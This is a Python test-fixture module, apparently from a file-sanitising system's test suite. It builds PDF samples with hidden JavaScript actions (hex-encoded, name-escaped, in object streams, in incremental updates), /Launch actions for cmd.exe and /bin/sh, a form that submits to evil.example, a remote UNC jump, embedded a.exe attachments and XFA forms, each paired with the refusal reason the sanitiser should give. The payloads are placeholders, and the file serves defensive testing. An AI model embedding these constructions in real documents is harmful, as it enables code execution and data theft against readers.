"""PDFs that would do something: run a script, start a program, send, fetch, open or carry other files."""

import io
import zlib
from collections.abc import Iterator

import pikepdf

from jianxi.storage import samples
from tests.storage.hostile_files import PLANTED, Odd, cleaned, refused

JS = b"<< /S /JavaScript /JS (" + PLANTED + b") >>"
SCRIPT, PROGRAM, ATTACHMENT = "含有脚本", "含有启动程序的动作", "含有嵌入的附件"
MEDIA, SENDING, ELSEWHERE, XFA = (
    "含有音视频等多媒体",
    "含有提交数据的动作",
    "含有打开其他文件的动作",
    "含有XFA动态表单",
)
DRAWN = b"BT /F1 24 Tf 72 740 Td (Sample) Tj ET"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def pdf(
    catalog: bytes = b"", page: bytes = b"", *more: bytes, drawn: bytes = DRAWN, resources: bytes = b""
) -> bytes:
    """One page with these entries in its catalog and its page; further objects are numbered from 6."""
    return samples.pdf_of((
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page),
        stream(drawn),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ))  # fmt: skip


def note(subtype: bytes, entries: bytes) -> bytes:
    """A page with one annotation."""
    return pdf(b"", b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 99 99] %s >>]" % (subtype, entries))


def action(entries: bytes) -> bytes:
    return note(b"Link", b"/A << /Type /Action %s >>" % entries)


def field(entries: bytes) -> bytes:
    form = b"/AcroForm << /Fields [6 0 R] >>"
    kid = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] %s >>" % entries
    return pdf(form, b"/Annots [6 0 R]", kid)


def later(first: bytes, more: bytes) -> bytes:
    """The file with objects written behind it, as programs do that save only what changed."""
    place = first.rindex(b"startxref\n") + 10
    before = first[place : first.index(b"\n", place)]
    content = first + more
    number = more.split(b" ", 1)[0]
    table = b"xref\n%s 1\n%010d 00000 n \n" % (number, len(first))
    tail = b"trailer\n<< /Size 20 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (before, len(content))
    return content + table + tail


def packed(data: bytes) -> bytes:
    """The same with its objects packed, so that no word of it can be read in the file."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as opened:
        opened.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(PLANTED, b"/Type /EmbeddedFile")
FORM = b"/AcroForm << /Fields [] /XFA %s >>"
REFUSED = (
    ("a script at opening", pdf(b"/OpenAction " + JS), SCRIPT),
    ("a script kept in a stream", pdf(b"/OpenAction << /S /JavaScript /JS 6 0 R >>", b"", stream(PLANTED)), SCRIPT),
    ("a script written in hexadecimal", pdf(b"/OpenAction << /S /JavaScript /JS <" + PLANTED.hex().encode() + b"> >>"), SCRIPT),
    ("a script whose name is escaped", pdf(b"/OpenAction << /S /J#61v#61Scr#69pt /J#53 (" + PLANTED + b") >>"), SCRIPT),
    ("a script between comments", pdf(b"/OpenAction << /S %x\n/JavaScript %y\n/JS (" + PLANTED + b") >>"), SCRIPT),
    ("a script in packed objects", packed(pdf(b"/OpenAction 6 0 R", b"", JS)), SCRIPT),
    ("a script at closing", pdf(b"/AA << /WC " + JS + b" >>"), SCRIPT),
    ("a script at printing", pdf(b"/AA << /WP " + JS + b" >>"), SCRIPT),
    ("a script when the page opens", pdf(b"", b"/AA << /O " + JS + b" >>"), SCRIPT),
    ("a script behind a link", note(b"Link", b"/A " + JS), SCRIPT),
    ("a script under the pointer", note(b"Widget", b"/AA << /E " + JS + b" >>"), SCRIPT),
    ("a script at each key", field(b"/AA << /K " + JS + b" >>"), SCRIPT),
    ("a script that calculates", field(b"/AA << /C " + JS + b" >>"), SCRIPT),
    ("a field that is on no page", pdf(b"/AcroForm << /Fields [6 0 R] >>", b"", b"<< /T (a) /AA << /F " + JS + b" >> >>"), SCRIPT),
    ("a script by name", pdf(b"/Names << /JavaScript << /Names [(a) " + JS + b"] >> >>"), SCRIPT),
    ("a script by name, deep down", pdf(b"/Names << /JavaScript << /Kids [<< /Kids [<< /Names [(a) 6 0 R] >>] >>] >> >>", b"", JS), SCRIPT),
    ("a script in the outline", pdf(b"/Outlines << /First << /Title (a) /A " + JS + b" >> >>"), SCRIPT),
    ("a script as second step", action(b"/S /GoTo /D [3 0 R /Fit] /Next " + JS), SCRIPT),
    ("a script as third step", action(b"/S /Named /N /NextPage /Next [<< /S /URI /URI (x) /Next [" + JS + b"] >>]"), SCRIPT),
    ("steps that go round", pdf(b"/OpenAction 6 0 R", b"", b"<< /S /GoTo /Next 7 0 R >>", b"<< /S /GoTo /Next [6 0 R " + JS + b"] >>"), SCRIPT),
    ("a script with a picture's name", pdf(b"", b"", JS, resources=b"/XObject << /Im0 6 0 R >>"), SCRIPT),
    ("a script that nothing leads to", pdf(b"", b"", JS), SCRIPT),
    ("a script written later", later(pdf(), b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>\nendobj\n"), SCRIPT),
    ("a script in an article's thread", pdf(b"/Threads [<< /I << /X " + JS + b" >> >>]"), SCRIPT),
    ("an order to start a program of Windows", action(b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"), PROGRAM),
    ("a program at opening", pdf(b"/OpenAction << /S /Launch /F (/bin/sh) >>"), PROGRAM),
    ("a program of a Mac", action(b"/S /Launch /Mac << /F (x) >>"), PROGRAM),
    ("a jump into an attachment", action(b"/S /GoToE /T << /R /C /N (a) >>"), ELSEWHERE),
    ("a jump to another machine", action(b"/S /GoToR /F (\\\\\\\\203.0.113.9\\\\x) /D [0 /Fit]"), ELSEWHERE),
    ("a form that sends itself", field(b"/A << /S /SubmitForm /F (https://evil.example) >>"), SENDING),
    ("a form that fetches", action(b"/S /ImportData /F (x.fdf)"), SENDING),
    ("a program as attachment", pdf(b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", b"", *FILE), ATTACHMENT),
    ("an attachment as annotation", pdf(b"", b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]", *FILE), ATTACHMENT),
    ("an associated file", pdf(b"/AF [6 0 R]", b"", *FILE), ATTACHMENT),
    ("a portfolio", pdf(b"/Collection << >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", b"", *FILE), ATTACHMENT),
    ("an attachment that nothing leads to", pdf(b"", b"", *FILE), ATTACHMENT),
    ("a film player", note(b"RichMedia", b"/RichMediaContent << >>"), MEDIA),
    ("a film", note(b"Movie", b"/Movie << /F (x.avi) >>"), MEDIA),
    ("a sound", note(b"Sound", b"/Sound 4 0 R"), MEDIA),
    ("a screen", note(b"Screen", b"/A << /S /Rendition >>"), MEDIA),
    ("a sound that starts by itself", pdf(b"/OpenAction << /S /Sound /Sound 4 0 R >>"), MEDIA),
    ("a body in space", note(b"3D", b"/3DD 4 0 R"), MEDIA),
    ("a rendition with a script", action(b"/S /Rendition /OP 0 /JS (" + PLANTED + b")"), MEDIA),
    ("a field that was filled in and not drawn", field(b"/V (planted-evil)"), "填写的内容还没有固定在页面上"),
    ("an XFA form", pdf(FORM % b"6 0 R", b"", stream(b"<xdp>" + PLANTED + b"</xdp>")), XFA),
    ("an XFA form in parts", pdf(FORM % b"[(template) 6 0 R]", b"", stream(PLANTED)), XFA),
    ("an XFA form in packed objects", packed(pdf(FORM % b"6 0 R", b"", stream(PLANTED))), XFA),
)  # fmt: skip
KEPT = (
    ("a link", action(b"/S /URI /URI (https://planted-evil.example)")),
    ("a link that is a script", action(b"/S /URI /URI (javascript:planted-evil)")),
    ("a view at opening", pdf(b"/OpenAction [3 0 R /XYZ null null 0]")),
    ("a jump at opening", pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    ("a print dialog at opening", pdf(b"/OpenAction << /S /Named /N /Print >>")),
    ("a field that empties the form", field(b"/A << /S /ResetForm >> /DV (planted-evil)")),
    ("a note nobody sees", note(b"Text", b"/F 2 /Contents (planted-evil)")),
    ("a title that is a script", pdf(b"/Lang (planted-evil) /PageLabels << /Nums [0 << /P (planted-evil) >>] >>")),
    ("XMP with a script", pdf(b"/Metadata 6 0 R", b"", stream(b"<x:xmpmeta><script>" + PLANTED, b"/Type /Metadata /Subtype /XML"))),
    ("what a program keeps for itself", pdf(b"/PieceInfo << /X << /Private (planted-evil) >> >>", b"/PieceInfo << /Y (planted-evil) >>")),
    ("a preview of something else", pdf(b"", b"/Thumb 6 0 R", stream(PLANTED, b"/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"))),
    ("a structure with words", pdf(b"/StructTreeRoot << /K << /S /P /Alt (planted-evil) >> >>")),
    ("addresses of the web", pdf(b"/URI << /Base (https://planted-evil.example) >> /SpiderInfo << /V (planted-evil) >>")),
    ("a stream that lies in another file", pdf(b"", b"", stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (/etc/planted-evil)"), resources=b"/XObject << /X 6 0 R >>")),
    ("a page of another file", pdf(b"", b"", stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (planted-evil) /Page 0 >>"), resources=b"/XObject << /X 6 0 R >>")),
    ("a program for printers", pdf(b"", b"", stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /PS 7 0 R"), stream(PLANTED), resources=b"/XObject << /X 6 0 R >>")),
    ("an object nothing leads to", pdf(b"", b"", b"(planted-evil)")),
    ("comments between objects", pdf().replace(b"endobj\n4 0 obj", b"endobj\n%planted-evil\n4 0 obj")),
    ("a page behind the end", pdf() + b"\n<script>planted-evil</script>\n"),
    ("a script that was replaced later", later(pdf(b"/OpenAction " + JS), b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")),
    ("a trailer with more in it", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Evil (planted-evil)")),
    ("an author", pdf(b"", b"", b"<< /Author (planted-evil) >>").replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 6 0 R")),
    ("a photograph with the place where it was taken", pdf(b"", b"", stream(b"\xff\xd8\xff\xe1\0\x14" + PLANTED + bytes(6) + b"\xff\xd9", b"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode"), resources=b"/XObject << /X 6 0 R >>")),
)  # fmt: skip


def every() -> Iterator[Odd]:
    yield from (refused(title, "管理制度.pdf", data, says) for title, data, says in REFUSED)
    yield from (cleaned(title, "管理制度.pdf", data) for title, data in KEPT)
    yield refused(
        "a zip behind a PDF with a script", "管理制度.pdf", pdf(b"/OpenAction " + JS) + b"PK\3\4", SCRIPT
    )
    yield cleaned("a zip behind a PDF", "管理制度.pdf", pdf() + b"PK\3\4" + zlib.compress(b"x") + PLANTED)
